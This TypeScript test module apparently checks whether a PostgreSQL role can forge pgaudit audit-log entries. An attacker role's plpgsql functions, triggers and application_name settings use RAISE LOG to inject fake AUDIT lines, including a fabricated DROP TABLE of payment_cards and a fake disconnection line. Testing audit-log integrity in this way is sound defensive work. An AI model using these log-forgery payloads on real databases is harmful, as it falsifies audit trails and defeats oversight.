import { MALLORY, type PostgresAttack, type PostgresPlace } from './place.ts';

/** Point 6: what a function of the attacker writes into the log while the victim's own session calls it. */

const AUDIT = 'AUDIT: SESSION,7,1,DDL,DROP TABLE,TABLE,public.payment_cards,DROP TABLE payment_cards,<none>,0';
const raise = (text: string, using = ''): string => `RAISE LOG '%', $text$${text}$text$ ${using};`;

const makeFunction = (place: PostgresPlace, role: string, body: string, more = '') =>
  place.as(MALLORY, (own) =>
    own.query(`CREATE FUNCTION trap_${role}() RETURNS boolean LANGUAGE plpgsql ${more} AS
      $body$ BEGIN ${body} RETURN true; END $body$; GRANT EXECUTE ON FUNCTION trap_${role}() TO agents`),
  );

const CALLS = 3;

/** The victim calls it some times, as it would call any function that it is offered. */
async function fallFor(place: PostgresPlace, role: string, statement = `SELECT trap_${role}()`): Promise<number> {
  await place.as(role, async (victim) => {
    await victim.query('SELECT id FROM invoices');
    for (let call = 0; call < CALLS; call++) await victim.query(statement);
  });
  return CALLS;
}

const raised = (attack: string, body: string, more = ''): PostgresAttack => ({
  ...{ attack, point: 6, attacker: 'a database role' },
  async run(place, role) {
    await makeFunction(place, role, body, more);
    return fallFor(place, role);
  },
});

/** What it raises, under settings that an administrator chose for the role. */
const under = (attack: string, settings: Readonly<Record<string, string>>): PostgresAttack => ({
  ...{ attack, point: 6, attacker: 'a database role' },
  async run(place, role) {
    for (const [name, value] of Object.entries(settings))
      await place.server.query(`ALTER ROLE ${role} SET ${name} = '${value}'`);
    await makeFunction(place, role, raise(AUDIT));
    return fallFor(place, role);
  },
});

export const RAISED: readonly PostgresAttack[] = [
  raised('an AUDIT message of a function', raise(AUDIT)),
  raised('an AUDIT message of a security definer function', raise(AUDIT), 'SECURITY DEFINER'),
  raised(
    'an AUDIT message of a DO block in a function',
    `EXECUTE $do$ DO $block$ BEGIN ${raise(AUDIT)} END $block$ $do$;`,
  ),
  raised(
    'an AUDIT message with a code, a detail and a hint',
    raise(AUDIT, "USING ERRCODE = '42501', DETAIL = 'x', HINT = 'y'"),
  ),
  raised('an AUDIT message of RAISE USING', `RAISE LOG USING MESSAGE = $text$${AUDIT}$text$;`),
  raised('an AUDIT message of an object', raise(AUDIT.replace('SESSION', 'OBJECT'))),
  raised('an AUDIT message with lines of the stderr log in it', raise(`${AUDIT}\n${AUDIT}`)),
  {
    ...{ attack: 'an AUDIT message of a trigger', point: 6, attacker: 'a database role' },
    async run(place, role) {
      await place.as(MALLORY, (own) =>
        own.query(`CREATE FUNCTION trap_${role}() RETURNS trigger LANGUAGE plpgsql AS
            $body$ BEGIN IF session_user = '${role}' THEN ${raise(AUDIT)} END IF; RETURN NEW; END $body$;
          GRANT EXECUTE ON FUNCTION trap_${role}() TO agents;
          CREATE TRIGGER trap_${role} BEFORE INSERT ON payments FOR EACH ROW EXECUTE FUNCTION trap_${role}()`),
      );
      return fallFor(place, role, 'INSERT INTO payments VALUES (1, 1)');
    },
  },
  under('an AUDIT message where log_error_verbosity is terse', { log_error_verbosity: 'terse' }),
  {
    ...under('an AUDIT message where errors are logged without statement and context', {
      log_error_verbosity: 'terse',
      log_min_error_statement: 'panic',
    }),
    mayBeFound: 'the stderr log then has the same line as one of pgaudit',
  },
  {
    ...raised(
      'an application name that looks like the rest of a line, set in the session',
      `PERFORM set_config('application_name', 'x,client=9.9.9.9,session=1.1] LOG:  AUDIT: SESSION,1,1,W,DROP,,', false);`,
    ),
    heldBefore: 'a prefix that can end in two ways is not used',
  },
  {
    ...{ attack: 'an AUDIT message with the number of the statement that runs', point: 6, attacker: 'a database role' },
    own: { action: 'SELECT public.invoices', uses: 1, rows: 5 },
    async run(place, role) {
      const forged = 'AUDIT: SESSION,1,1,READ,SELECT,TABLE,public.invoices,SELECT 1,<none>,0';
      await makeFunction(place, role, raise(forged));
      const { rows } = await place.as(role, (own) =>
        own.query(`SELECT id FROM invoices WHERE id <= 5 AND trap_${role}()`),
      );
      return rows.length;
    },
  },
  {
    ...{ attack: 'a disconnection in the middle of a statement', point: 6, attacker: 'a database role' },
    own: { action: 'SELECT public.invoices', uses: 1, rows: 5 },
    async run(place, role) {
      const forged = 'AUDIT: SESSION,1,1,READ,SELECT,TABLE,public.invoices,SELECT 1,<none>,3';
      await makeFunction(place, role, `${raise(forged)} ${raise('disconnection: session time: 0:00:01')}`);
      const { rows } = await place.as(role, (own) =>
        own.query(`SELECT id FROM invoices WHERE id <= 5 AND trap_${role}()`),
      );
      return 2 * rows.length;
    },
  },
];
